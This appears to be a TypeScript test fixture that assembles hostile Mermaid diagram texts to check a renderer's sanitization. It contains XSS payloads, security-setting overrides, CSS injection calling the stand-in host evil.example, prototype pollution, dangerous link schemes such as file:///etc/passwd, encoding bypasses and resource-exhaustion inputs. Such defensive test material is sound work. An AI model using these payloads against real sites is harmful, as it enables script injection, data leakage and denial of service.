const call = 'hostilePlan()';
const evil = 'https://evil.example';
const image = `<img src=x onerror=${call}>`;
const script = `javascript:${call}`;

/** Settings that would take a wall away, each with something that waits behind it; by directive and by front matter. */
const settings: readonly string[] = [
  { securityLevel: 'loose' },
  { securityLevel: 'antiscript' },
  { securityLevel: 'sandbox' },
  { secure: [], securityLevel: 'loose' },
  { dompurifyConfig: { ADD_TAGS: ['script', 'iframe'], ADD_ATTR: ['onerror', 'onload'] } },
  { htmlLabels: true, flowchart: { htmlLabels: true }, securityLevel: 'loose' },
  { arrowMarkerAbsolute: true },
  { startOnLoad: true, maxTextSize: 1e9, maxEdges: 1e9 },
  { logLevel: 0, suppressErrorRendering: false, deterministicIDSeed: `"><script>${call}</script>`, deterministicIds: true },
  { fontFamily: `x;} *{background:url(${evil}/f.png)} a{` },
  { altFontFamily: `"></style>${image}` },
  { themeCSS: `*{background:url(${evil}/a.png)} @import '${evil}/b.css';` },
  { themeCSS: `</style>${image}<style>` },
  { themeCSS: `@font-face{font-family:x;src:url(${evil}/w.woff)} *{font-family:x}` },
  { themeCSS: `*{background:\\75\\72\\6c(${evil}/u.png)}` },
  { themeCSS: `*{background:image-set('${evil}/u.png' 1x);cursor:url(${evil}/c.png),auto;mask:url(${evil}/m.svg#m)}` },
  { themeCSS: `svg:has(g){content:url(${evil}/h.png)} a{-webkit-mask-image:url(${evil}/w.png)}` },
  { theme: 'base', themeVariables: { primaryColor: `url(${evil}/v.png)`, lineColor: `red;background:url(${evil}/l.png)` } },
  { theme: 'base', themeVariables: { fontFamily: `a;}*{background:url(${evil}/t.png)}`, fontSize: `1px;}*{background:url(${evil}/z.png)}` } },
].flatMap((config) => {
  const json = JSON.stringify(config);
  const body = `flowchart LR\n  a["${image}"] --> b\n  click a call ${call}`;
  return [`%%{init: ${json}}%%\n${body}`, `---\nconfig: ${json}\n---\n${body}`];
});
const pollution = [
  '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}}%%\nflowchart LR\n  a',
  '---\nconfig:\n  __proto__:\n    polluted: 1\n  flowchart:\n    __proto__:\n      polluted: 1\n---\nflowchart LR\n  a',
  'flowchart LR\n  __proto__ --> constructor --> prototype\n  classDef __proto__ fill:red\n  class constructor __proto__',
];

/** Addresses that lead somewhere else than to a page. */
const addresses = [script, ` ${script}`, 'java\tscript:hostilePlan()', script.toUpperCase(), `vbscript:${call}`, `data:text/html,<script>${call}</script>`, `${evil}/`, '//evil.example/', 'command:workbench.action.terminal.new', 'file:///etc/passwd', 'vscode://evil/run', `blob:${evil}/1`];
const links: readonly string[] = addresses.flatMap((address) => [
  `flowchart LR\n  a --> b\n  click a href "${address}" _top`,
  `flowchart LR\n  a --> b\n  click a "${address}" "tip" _self`,
  `classDiagram\n  class A\n  link A "${address}"\n  click A href "${address}"`,
  `sequenceDiagram\n  participant A\n  link A: Page @ ${address}\n  links A: {"x": "${address}"}\n  A->>A: hi`,
  `stateDiagram-v2\n  s1 --> s2\n  click s1 href "${address}"`,
  `gantt\n  section s\n  task :a, 2026-11-02, 1d\n  click a href "${address}"`,
]);
const callbacks: readonly string[] = [
  `flowchart LR\n  a --> b\n  click a ${call.slice(0, -2)}\n  click b call ${call}`,
  `flowchart LR\n  a --> b\n  click a call eval("${call}")`,
  `classDiagram\n  class A\n  callback A "hostilePlan"\n  click A call ${call}`,
  `gantt\n  section s\n  task :a, 2026-11-02, 1d\n  click a call ${call}`,
  `sequenceDiagram\n  participant A\n  properties A: {"class": "x", "onclick": "${call}"}\n  details A: ${image}\n  A->>A: hi`,
];

/** Styles, images and icons that would be loaded. */
const loads: readonly string[] = [
  `flowchart LR\n  a@{ img: "${evil}/pixel.png", label: "x", w: 60, h: 60 }`,
  `flowchart LR\n  a@{ img: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>", label: "x", w: 60, h: 60 }`,
  `flowchart LR\n  a@{ icon: "evil:pixel", label: "x" }`,
  `flowchart LR\n  a@{ icon: "../../evil:x'${image}", form: "square" }`,
  `flowchart LR\n  a["fa:fa-x' onmouseover='${call}"] --> b`,
  `flowchart LR\n  a --> b\n  style a fill:url(${evil}/s.png),background-image:url(${evil}/t.png)`,
  `flowchart LR\n  a --> b\n  style a fill:\\75rl(${evil}/s.png)`,
  `flowchart LR\n  a:::bad\n  classDef bad fill:#fff,background:url(${evil}/c.png)`,
  `flowchart LR\n  a:::bad\n  classDef bad fill:red} *{background:url(${evil}/c.png)`,
  `flowchart LR\n  a --> b\n  linkStyle 0 stroke:url(${evil}/l.svg#x),marker-end:url(${evil}/m.svg#m)`,
  `stateDiagram-v2\n  s1:::bad\n  classDef bad fill:red</style>${image}<style>`,
  `classDiagram\n  class A:::bad\n  style A fill:red,background:url(${evil}/k.png)\n  classDef bad color:red,background:url(${evil}/k.png)`,
  `mindmap\n  root((r))\n    ::icon(x" onmouseover="${call})`,
  `architecture-beta\n  service s(${image})[x]`,
  `architecture-beta\n  service s(evil:pixel)[x]\n  service t(server)[y]\n  s:R -- L:t`,
  `C4Context\n  Person(p, "x", "y", $sprite="${evil}/x.png", $link="${script}")\n  UpdateElementStyle(p, $bgColor="url(${evil}/c.png)")`,
  `sequenceDiagram\n  rect rgb(0,0,0) url(${evil}/r.png)\n    A->>B: hi\n  end`,
  `flowchart LR\n  a["$$\\\\includegraphics{${evil}/k.png}$$"]`,
  `flowchart LR\n  a["$$\\\\href{${script}}{x}$$"]`,
  `flowchart LR\n  a["$$\\\\htmlStyle{background:url(${evil}/k.png)}{x}$$"]`,
  `sequenceDiagram\n  A->>B: $$\\\\htmlData{x=y}{\\\\url{${script}}}$$`,
];

/** Mermaid's own ways to write a character. */
const encoded: readonly string[] = [
  `flowchart LR\n  a["#lt;img src=x onerror=${call}#gt;"]`,
  `flowchart LR\n  a["#60;script#62;${call}#60;/script#62;"]`,
  `sequenceDiagram\n  A->>B: #lt;img src=x onerror=${call}#gt;`,
  `flowchart LR\n  a["&lt;img src=x onerror=${call}&gt;"]`,
  `flowchart LR\n  a["&amp;lt;img src=x onerror=${call}&amp;gt;"]`,
  `flowchart LR\n  a["\`<img src=x onerror=${call}> [x](${script})\`"]`,
  `flowchart LR\n  a["ﬂ°°60¶ßimg src=x onerror=${call}ﬂ°°62¶ß"]`,
  `flowchart LR\n  a["\u0000<\u0000img src=x onerror=${call}>"]`,
];

/** Large or deep, and all the same a picture or a refusal. */
const large: readonly string[] = [
  `flowchart LR\n  a["${'<b>'.repeat(2_000)}x"]`,
  `flowchart LR\n  a["${'x'.repeat(20_000)}"]`,
  ['flowchart LR', ...Array.from({ length: 60 }, (_, depth) => `subgraph s${depth}`), 'a', ...Array.from({ length: 60 }, () => 'end')].join('\n'),
  `flowchart LR\n  a["${'('.repeat(5_000)}"]`,
  `sequenceDiagram\n${'  loop x\n'.repeat(60)}  A->>B: hi\n${'  end\n'.repeat(60)}`,
  `%%{init: ${'{"flowchart":'.repeat(200)}1${'}'.repeat(200)}}%%\nflowchart LR\n  a`,
  '---\na: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b]\n---\nflowchart LR\n  a',
];

/** Whole texts that go for the settings, the links, the styles, and the limits. */
export const hostileTexts: readonly string[] = [...settings, ...pollution, ...links, ...callbacks, ...loads, ...encoded, ...large];
